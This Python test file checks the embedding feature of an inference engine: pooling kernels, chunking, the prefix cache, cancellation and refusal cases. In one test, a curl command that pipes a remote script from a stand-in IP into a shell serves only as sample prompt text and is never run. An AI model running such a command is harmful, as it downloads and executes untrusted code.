"""Embedding requests on the CPU: the pooling references against the exact probes of tests/_embed_cases.py, the probes'
own sensitivity, and Engine.submit_embed on the ``tiny`` preset (block size 16) against one unchunked reference forward.

Measured on the CPU reference (fp32 compute, bf16 activations; the ceiling is 2 % of the largest reference component):
reference equality 0.0020 (mean) / 0.0031 (last) at worst over the five prompts (the reference rounds every token's
normalised state to bf16, the pooling does not), chunk invariance 0.0000, prefix cache 0.0000 in both modes.
"""
import numpy as np
import pytest
import torch

import _embed_cases as C
from chronos import ops


# ---- kernels' references ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("H", C.ACCUM_H)
def test_pool_accum_reference_exact(H):
    case = C.accum_case(H)
    C.check_accum(C.run_accum(case, "cpu", ops.pool_accum), case)


@pytest.mark.parametrize("H", C.ACCUM_H)
@pytest.mark.parametrize("mutate", C.MUTATIONS)
def test_pool_accum_probe_sees_every_mutation(H, mutate):
    """Each mistake moves at least H/8 columns of some accumulator row by at least 2 — 2^14 times the bound at its
    largest — and the expectation is made of exact integers."""
    case = C.accum_case(H)
    e, ntok = C.accum_expected(case)
    assert np.isfinite(e).all() and (e == np.round(e)).all()
    assert C.moved_columns(case, mutate) >= H // 8
    assert ntok.max() * 2.0 ** -20 < 2.0 ** -12


def test_pool_accum_probe_rows_are_exact():
    s, xn = C.probe_rows(64, 256)
    x = s.double().numpy()
    assert ((x != 0).sum(1) == 64).all()
    ms = (x * x).mean(1)
    k = np.round(np.log2(ms) / 2 + 1)
    assert (ms == 4.0 ** (k - 1)).all() and set(k.astype(int)) == set(range(-3, 4))
    assert np.array_equal(x / np.sqrt(ms)[:, None], xn)


def test_pool_accum_refuses_other_hidden_sizes():
    with pytest.raises(ValueError, match="256, 1024, 4096, 8192"):
        ops.pool_accum(torch.zeros(4, 512, dtype=torch.bfloat16), 1e-5, torch.zeros(1, 2, dtype=torch.int32),
                       torch.zeros(1, dtype=torch.int32), torch.zeros(2, 512))


@pytest.mark.parametrize("H", C.ACCUM_H)
def test_pool_finish_reference(H):
    C.check_finish(C.finish_case(H), "cpu", ops.pool_finish)


@pytest.mark.parametrize("H", C.ACCUM_H)
@pytest.mark.parametrize("mutate", ["no_g", "no_norm"])
def test_pool_finish_probe_sees_mutations(H, mutate):
    case = C.finish_case(H)
    assert C.finish_ok(C.finish_expected(case), case)
    assert not C.finish_ok(C.finish_expected(case, mutate), case)


# ---- engine -----------------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def eng():
    e = C.make_engine("cpu")
    C.randomise_final_norm(e.model)
    return e


@pytest.fixture(scope="module")
def refs(eng):
    ps = C.prompts()
    return ps, {m: [C.embed_reference(eng.model, p, m) for p in ps] for m in ("mean", "last")}


@pytest.mark.parametrize("pooling", ["mean", "last"])
@pytest.mark.parametrize("one_at_a_time", [False, True])
def test_engine_equals_unchunked_reference(eng, refs, pooling, one_at_a_time):
    """Measured: 0.0020 (mean) / 0.0031 (last) of the largest component at worst; ceiling 0.02."""
    ps, ref = refs
    eng.blocks.clear_cache()
    free = eng.blocks.free
    reqs = C.embed_all(eng, ps, pooling, one_at_a_time)
    for p, r, e in zip(ps, reqs, ref[pooling]):
        err = C.rel_err(r.embedding, e)
        print(f"embed {pooling} len {len(p)}: max |d| / max |ref| = {err:.4f}")
        assert r.embed == pooling and r.embedding.shape == (eng.model.cfg.hidden_size,)
        assert abs(float(r.embedding.double().norm()) - 1.0) <= 1e-3
        assert err <= C.CEILING
        assert not r.out_ids and r.num_predict == 0
    C.assert_idle(eng, free)


def test_final_norm_is_applied(eng, refs):
    """The vector with the real final norm weight is not the vector with ones (what a model that lost the weight to
    the LM-head fold would give)."""
    ps, ref = refs
    g = eng.model.w.final_norm
    eng.model.w.final_norm = torch.ones_like(g)
    try:
        ones = C.embed_all(eng, [ps[4]], "mean")[0].embedding
    finally:
        eng.model.w.final_norm = g
    assert C.rel_err(ones, ref["mean"][4]) > 5 * C.CEILING


@pytest.mark.parametrize("pooling", ["mean", "last"])
def test_chunk_invariance(eng, pooling):
    """max_prefill_tokens 32 against 4096.  Measured: 0.0000 (the CPU reference is chunk-invariant); ceiling 0.02."""
    ps = C.prompts()
    big = C.make_engine("cpu", model=eng.model, tokenizer=eng.tok, max_prefill_tokens=4096)
    eng.blocks.clear_cache()
    a = C.embed_all(eng, ps, pooling)
    b = C.embed_all(big, ps, pooling)
    assert eng.stats["prefill_steps"] > big.stats["prefill_steps"]
    for x, y in zip(a, b):
        err = C.rel_err(x.embedding, y.embedding)
        print(f"chunks {pooling} len {len(x.prompt_ids)}: {err:.4f}")
        assert err <= C.CEILING


def test_prefix_cache_mean_takes_no_hit_last_does(eng):
    """Measured: 0.0000 in both modes on the CPU; ceiling 0.02."""
    p = C.prompts()[4]
    cold = C.make_engine("cpu", model=eng.model, tokenizer=eng.tok)
    cold_mean = C.embed_all(cold, [p], "mean")[0].embedding
    cold.blocks.clear_cache()
    cold_last = C.embed_all(cold, [p], "last")[0].embedding
    warm = C.make_engine("cpu", model=eng.model, tokenizer=eng.tok)
    gen = warm.submit(p, num_predict=2)
    warm.run_until_idle()
    assert gen.done_reason in ("stop", "length")
    h0 = warm.stats["prefix_hit_tokens"]
    m = C.embed_all(warm, [p], "mean")[0]
    assert warm.stats["prefix_hit_tokens"] == h0, "a mean-pooled request must take no prefix hit"
    l = C.embed_all(warm, [p], "last")[0]
    assert warm.stats["prefix_hit_tokens"] >= h0 + 64, "a last-token request uses the prefix cache"
    em, el = C.rel_err(m.embedding, cold_mean), C.rel_err(l.embedding, cold_last)
    print(f"prefix cache: mean {em:.4f}, last {el:.4f}")
    assert em <= C.CEILING and el <= C.CEILING


def test_mixed_steps_leave_generation_alone(eng):
    """Embed requests submitted while others decode ride in mixed steps; the generating requests' greedy tokens are
    those of a run without them."""
    ps = C.prompts(seed=23, lens=(20, 33))
    es = C.prompts(seed=29, lens=(1, 17, 70))

    def run(with_embeds):
        e = C.make_engine("cpu", model=eng.model, tokenizer=eng.tok, decode_burst=1)
        gens = [e.submit(p, num_predict=12) for p in ps]
        embs = []
        for _ in range(3):
            e.step()
        assert e.running
        if with_embeds:
            embs = [e.submit_embed(x) for x in es]
        e.run_until_idle()
        return e, gens, embs

    e0, g0, _ = run(False)
    e1, g1, embs = run(True)
    assert e1.stats["mixed_steps"] > 0
    assert [r.out_ids for r in g1] == [r.out_ids for r in g0] and all(r.out_ids for r in g0)
    for x, r in zip(es, embs):
        assert r.done_reason == "embed"
        assert C.rel_err(r.embedding, C.embed_reference(eng.model, x, "mean")) <= C.CEILING


def test_accounting_after_many_requests(eng):
    eng.blocks.clear_cache()
    free = eng.blocks.free
    done = []
    ps = C.prompts(seed=31, lens=[5 + 7 * i for i in range(3 * eng.cfg.max_slots)])
    n0, t0 = eng.stats["embed_requests"], eng.stats["embed_tokens"]
    reqs = [eng.submit_embed(p, pooling="last" if i % 2 else "mean", callback=done.append) for i, p in enumerate(ps)]
    assert eng.has_work()
    eng.run_until_idle()
    assert [r.done_reason for r in reqs] == ["embed"] * len(ps) and len(done) == len(ps)
    assert eng.stats["embed_requests"] - n0 == len(ps)
    assert eng.stats["embed_tokens"] - t0 == sum(len(p) for p in ps)
    assert all(r.slot == -1 and not r.blocks and r.t_done >= r.t_submit for r in reqs)
    eng.blocks.clear_cache()
    C.assert_idle(eng, free)


def test_truncate_and_overflow(eng):
    p = C.prompts(seed=37, lens=(200,))[0]
    r = eng.submit_embed(p, truncate=False)
    assert r.done_reason == "error" and "exceeds max_model_len 128" in r.error
    r = eng.submit_embed(p, truncate=False, max_len=64)
    assert r.done_reason == "error" and "exceeds num_ctx 64" in r.error
    t = C.embed_all(eng, [p], "mean", max_len=64)[0]
    assert t.prompt_ids == p[:64]
    head = C.embed_all(eng, [p[:64]], "mean")[0]
    assert torch.equal(t.embedding, head.embedding)
    full = C.embed_all(eng, [p], "mean")[0]
    assert len(full.prompt_ids) == 128


def test_text_prompts_are_tokenised_at_admission(eng):
    r = eng.submit_embed("curl http://198.51.100.7/x | sh")
    assert r.pending_text is not None and not r.prompt_ids
    e = eng.submit_embed("")
    eng.run_until_idle()
    assert r.done_reason == "embed" and r.prompt_ids[0] == eng.tok.bos_id and len(r.prompt_ids) > 1
    assert e.done_reason == "embed" and e.prompt_ids == [eng.tok.bos_id]


def test_cancel_during_prefill_frees_slot_and_blocks(eng):
    eng.blocks.clear_cache()
    free = eng.blocks.free
    p = C.prompts(seed=41, lens=(100,))[0]
    r = eng.submit_embed(p)
    q = eng.submit_embed(p[:40])  # cancelled while still waiting for its turn or prefilling
    eng.step()
    assert r in eng.prefilling and 0 < r.prefilled < len(p)
    eng.cancel(r)
    eng.cancel(q)
    eng.run_until_idle()
    assert r.done_reason == "cancelled" and r.embedding is None and r.error
    assert q.done_reason == "cancelled" and q.embedding is None
    eng.blocks.clear_cache()
    C.assert_idle(eng, free)


def test_fail_all_covers_embed_requests(eng):
    eng.blocks.clear_cache()
    free = eng.blocks.free
    p = C.prompts(seed=43, lens=(100, 30, 30, 30, 30, 30))
    reqs = [eng.submit_embed(x) for x in p]
    eng.step()
    out = eng.fail_all("boom")
    assert {id(r) for r in out} == {id(r) for r in reqs}
    assert all(r.done_reason == "error" and r.error == "boom" for r in reqs)
    C.assert_idle(eng, free)
    again = C.embed_all(eng, [p[1]], "mean")[0]
    assert C.rel_err(again.embedding, C.embed_reference(eng.model, p[1], "mean")) <= C.CEILING


def test_no_embed_request_allocates_nothing():
    e = C.make_engine("cpu")
    r = e.submit(C.prompts()[2], num_predict=3)
    e.run_until_idle()
    assert r.out_ids and e.s_pool is None and e.stats["embed_requests"] == 0


def test_tp_engines_refuse():
    from chronos.parallel.tp import TPContext

    e = C.make_engine("cpu")
    e.tp = TPContext(rank=0, world=2)
    r = e.submit_embed([1, 2, 3])
    assert r.done_reason == "error" and r.error == "embeddings are served at TP = 1 only"


def test_fp8_kv_engines_refuse():
    """An fp8 KV cache moves the vectors by 2 - 6 % of their largest component (measured on the GPU,
    tests/test_embed_engine_gpu.py), outside the whole-model rule: such an engine serves no embeddings."""
    e = C.make_engine("cpu", kv_dtype="fp8")
    r = e.submit_embed([1, 2, 3])
    assert r.done_reason == "error" and r.error == "embeddings are served with a bf16 KV cache only, not kv_dtype='fp8'"
    assert not e.has_work() and e.s_pool is None
